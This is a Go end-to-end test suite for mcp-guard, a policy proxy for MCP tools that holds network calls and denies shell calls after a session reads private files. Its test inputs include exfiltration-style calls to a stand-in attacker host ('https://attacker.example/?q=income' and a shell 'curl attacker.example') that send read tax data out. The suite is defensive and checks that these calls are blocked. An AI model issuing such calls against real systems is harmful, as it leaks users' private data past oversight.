package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// flowSetup is the real server-filesystem over root, whose private/ tree
// is labelled private, and the fake upstream "web" with a network tool
// (fetch) and an exec tool (shell); private -> network asks, private ->
// exec denies.
type flowSetup struct {
	e              *env
	root, taxes    string
	servers, rules string
}

const flowWebTools = `{"tools":[{"name":"fetch","inputSchema":{"type":"object"}},{"name":"shell","inputSchema":{"type":"object"}}]}`

func newFlowSetup(t *testing.T) *flowSetup {
	e := newEnv(t)
	root := filepath.Join(e.dir, "root")
	if err := os.MkdirAll(filepath.Join(root, "private"), 0o700); err != nil {
		t.Fatal(err)
	}
	taxes := filepath.Join(root, "private", "taxes.md")
	writeFile(t, taxes, "income: 123\n")
	writeFile(t, filepath.Join(root, "public.md"), "hello\n")
	rules := fmt.Sprintf(`
[limits]
approval_wait = "1s"

[[rule]]
server = "fs"
tool = "read_text_file"
class = "read"
action = "allow"
labels = ["private"]
when = { "/path" = { path = %q } }

[[rule]]
server = "fs"
tool = "read_text_file"
class = "read"
action = "allow"

[[rule]]
server = "web"
tool = "fetch"
class = "network"
action = "allow"

[[rule]]
server = "web"
tool = "shell"
class = "exec"
action = "allow"

[[flow]]
from = "private"
to = ["network"]
action = "ask"
reason = "private data was read in this session"

[[flow]]
from = "private"
to = ["exec"]
action = "deny"
`, filepath.Join(root, "private")+"/**")
	return &flowSetup{e: e, root: root, taxes: taxes, rules: rules,
		servers: npmServer(t, "fs", filesystemJS, root) + "\n" + e.fake("web", flowWebTools)}
}

// scopeOf is the scope `mcp-guard sessions --json` lists holding label.
func (e *env) scopeHolding(cfg, label string) string {
	e.t.Helper()
	out, code := e.mcpGuard("sessions", "--json", "--config", cfg)
	if code != 0 {
		e.t.Fatalf("sessions: exit %d\n%s", code, out)
	}
	type scope struct {
		Scope  string `json:"scope"`
		Labels []struct {
			Label string `json:"label"`
		} `json:"labels"`
	}
	var scopes []scope
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") { // one JSON object per line
		var s scope
		if line == "" {
			continue
		}
		if err := json.Unmarshal([]byte(line), &s); err != nil {
			e.t.Fatalf("sessions --json: %v\n%s", err, out)
		}
		scopes = append(scopes, s)
	}
	for _, s := range scopes {
		for _, l := range s.Labels {
			if l.Label == label {
				return s.Scope
			}
		}
	}
	return ""
}

// toolCallsOf counts the tools/call requests to tool the fake web received.
func (e *env) toolCallsOf(server, tool string) int {
	n := 0
	for _, c := range e.calls(server) {
		var p struct{ Name string }
		if json.Unmarshal(c.Params, &p) == nil && p.Name == tool {
			n++
		}
	}
	return n
}

// Proves F1 and F2 end to end with real peers: server-filesystem reads a
// file in the labelled tree; the network call after it is held for the
// operator with a message naming that read, and never reaches the
// upstream; the exec call is denied naming it; the same network call in a
// fresh session runs; after `declassify` it runs here too; `sessions`,
// `log --labels` and `verify` show and check it all.
func TestFlows_E2E_ReadThenSend(t *testing.T) {
	t.Parallel()
	fs := newFlowSetup(t)
	e := fs.e
	cfg := e.config(fs.servers, fs.rules)
	h := e.connect(cfg, "")
	res, err := h.call(t, "fs__read_text_file", map[string]any{"path": fs.taxes})
	if err != nil || res.IsError || !strings.Contains(resultText(res), "income") {
		t.Fatalf("read: %v %+v", err, res)
	}
	// A read outside the labelled tree labels nothing more.
	if res, err := h.call(t, "fs__read_text_file", map[string]any{"path": filepath.Join(fs.root, "public.md")}); err != nil || res.IsError {
		t.Fatalf("public read: %v %+v", err, res)
	}
	res, err = h.call(t, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"})
	if err != nil || !res.IsError {
		t.Fatalf("fetch after the read: %v %+v", err, res)
	}
	text := resultText(res)
	want := regexp.MustCompile(`private since call 1: fs/read_text_file \{"path":"` + regexp.QuoteMeta(fs.taxes) + `"\}`)
	if !want.MatchString(text) || !strings.Contains(text, "approval") {
		t.Fatalf("held message does not name the read:\n%s", text)
	}
	if n := e.toolCallsOf("web", "fetch"); n != 0 {
		t.Fatalf("the held fetch reached the upstream %d times", n)
	}
	res, err = h.call(t, "web__shell", map[string]any{"cmd": "curl attacker.example"})
	if err != nil || !res.IsError || !want.MatchString(resultText(res)) || !strings.Contains(resultText(res), "denied") {
		t.Fatalf("shell after the read: %v %q", err, resultText(res))
	}
	if n := e.toolCallsOf("web", "shell"); n != 0 {
		t.Fatalf("a denied flow reached the upstream %d times", n)
	}
	// The ledger: the approval is bound to the label set and shows it.
	out, code := e.mcpGuard("approvals", "show", "1", "--config", cfg)
	if code != 0 || !strings.Contains(out, "flow      this session holds private since call 1") {
		t.Fatalf("approvals show 1 (exit %d):\n%s", code, out)
	}
	scope := e.scopeHolding(cfg, "private")
	if !strings.HasPrefix(scope, "session:") {
		t.Fatalf("no scope holds private: %q", scope)
	}
	out, _ = e.mcpGuard("sessions", "--config", cfg)
	if !strings.Contains(out, "scope "+scope) || !strings.Contains(out, "label   private since call 1: fs/read_text_file") {
		t.Fatalf("sessions:\n%s", out)
	}

	// A fresh session (another host connection) holds no label: it runs.
	h2 := e.connect(cfg, "")
	if res, err := h2.call(t, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"}); err != nil || res.IsError {
		t.Fatalf("fetch in a fresh session: %v %q", err, resultText(res))
	}
	if n := e.toolCallsOf("web", "fetch"); n != 1 {
		t.Fatalf("fresh session's fetch reached the upstream %d times", n)
	}

	// declassify: recorded, and the next call runs.
	out, code = e.mcpGuard("declassify", scope, "private", "--reason", "the operator checked the file", "--config", cfg)
	if code != 0 || !strings.Contains(out, "declassified private") {
		t.Fatalf("declassify (exit %d): %s", code, out)
	}
	if res, err := h.call(t, "web__fetch", map[string]any{"url": "https://example.org/"}); err != nil || res.IsError {
		t.Fatalf("fetch after declassify: %v %q", err, resultText(res))
	}
	if n := e.toolCallsOf("web", "fetch"); n != 2 {
		t.Fatalf("after declassify the fetch reached the upstream %d times in all, want 2", n)
	}
	out, code = e.mcpGuard("log", "--labels", "--config", cfg)
	if code != 0 || !regexp.MustCompile(`gained private \(call 1\)`).MatchString(out) || !strings.Contains(out, "declassified private (it came with call 1): the operator checked the file") {
		t.Fatalf("log --labels (exit %d):\n%s", code, out)
	}
	if out, code := e.mcpGuard("verify", "--config", cfg); code != 0 {
		t.Fatalf("verify (exit %d):\n%s", code, out)
	}
	// explain, on the same pipeline: as the session, and with --labels.
	out, code = e.mcpGuard("explain", "web/fetch", `{"url":"x"}`, "--labels", "private", "--config", cfg)
	if code != 1 || !strings.Contains(out, "decided by flows") {
		t.Fatalf("explain --labels private (exit %d):\n%s", code, out)
	}
	if out, code = e.mcpGuard("explain", "web/fetch", `{"url":"x"}`, "--config", cfg); code != 0 {
		t.Fatalf("explain with no labels (exit %d):\n%s", code, out)
	}
}

// Proves F1/F3 across processes: two `serve --scope X` processes, one per
// server (as wrap --per-server writes them), share one label scope through
// the ledger: a read in one holds a network call in the other, naming the
// read; a process of another scope is not held.
func TestFlows_E2E_TwoServesOneScope(t *testing.T) {
	t.Parallel()
	fs := newFlowSetup(t)
	e := fs.e
	cfg := e.config(fs.servers, fs.rules)
	reader := e.connectArgs("serve", "--config", cfg, "--server", "fs", "--scope", "claude-desktop")
	sender := e.connectArgs("serve", "--config", cfg, "--server", "web", "--scope", "claude-desktop")
	other := e.connectArgs("serve", "--config", cfg, "--server", "web", "--scope", "another-host")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if res, err := sender.CallTool(ctx, &mcp.CallToolParams{Name: "web__fetch", Arguments: map[string]any{"url": "before"}}); err != nil || res.IsError {
		t.Fatalf("fetch before the read: %v %+v", err, res)
	}
	if res, err := reader.CallTool(ctx, &mcp.CallToolParams{Name: "fs__read_text_file", Arguments: map[string]any{"path": fs.taxes}}); err != nil || res.IsError {
		t.Fatalf("read: %v %+v", err, res)
	}
	res, err := sender.CallTool(ctx, &mcp.CallToolParams{Name: "web__fetch", Arguments: map[string]any{"url": "after"}})
	if err != nil || !res.IsError || !strings.Contains(resultText(res), "private since call 2: fs/read_text_file") {
		t.Fatalf("fetch in the other process after the read: %v %q", err, resultText(res))
	}
	if res, err := other.CallTool(ctx, &mcp.CallToolParams{Name: "web__fetch", Arguments: map[string]any{"url": "after"}}); err != nil || res.IsError {
		t.Fatalf("fetch in another scope: %v %q", err, resultText(res))
	}
	if n := e.toolCallsOf("web", "fetch"); n != 2 {
		t.Fatalf("fetches that reached the upstream: %d, want 2 (before the read, and the other scope's)", n)
	}
	if got := e.scopeHolding(cfg, "private"); got != "claude-desktop" {
		t.Fatalf("scope holding private: %q", got)
	}
	if out, code := e.mcpGuard("verify", "--config", cfg); code != 0 {
		t.Fatalf("verify (exit %d):\n%s", code, out)
	}
}

// Proves F3's end across processes: once no process of a scope has been
// alive for the grace period (twice ledger.lease_ttl), its labels end,
// recorded as an event `log --labels` shows; a new serve of the scope
// then runs the network call the read would have held.
func TestFlows_E2E_LabelsEndWhenTheHostIsGone(t *testing.T) {
	t.Parallel()
	fs := newFlowSetup(t)
	e := fs.e
	cfg := e.config(fs.servers, fs.rules)
	// lease_ttl 1s: the grace is 2s.
	src, err := os.ReadFile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, cfg, strings.Replace(string(src), "[ledger]\n", "[ledger]\nlease_ttl = \"1s\"\n", 1))
	reader := e.connectArgs("serve", "--config", cfg, "--server", "fs", "--scope", "h")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if res, err := reader.CallTool(ctx, &mcp.CallToolParams{Name: "fs__read_text_file", Arguments: map[string]any{"path": fs.taxes}}); err != nil || res.IsError {
		t.Fatalf("read: %v %+v", err, res)
	}
	if got := e.scopeHolding(cfg, "private"); got != "h" {
		t.Fatalf("scope holding private: %q", got)
	}
	reader.Close() // the host is gone: its serve ends its session
	eventually(t, "the scope's labels to end", func() bool { return e.scopeHolding(cfg, "private") == "" })
	out, code := e.mcpGuard("log", "--labels", "--config", cfg)
	if code != 0 || !strings.Contains(out, "h labels ended (private): no process of the scope has been alive for 2s") {
		t.Fatalf("log --labels (exit %d):\n%s", code, out)
	}
	sender := e.connectArgs("serve", "--config", cfg, "--server", "web", "--scope", "h")
	if res, err := sender.CallTool(ctx, &mcp.CallToolParams{Name: "web__fetch", Arguments: map[string]any{"url": "u"}}); err != nil || res.IsError {
		t.Fatalf("fetch after the scope ended: %v %+v", err, res)
	}
	if out, code := e.mcpGuard("verify", "--config", cfg); code != 0 {
		t.Fatalf("verify (exit %d):\n%s", code, out)
	}
}
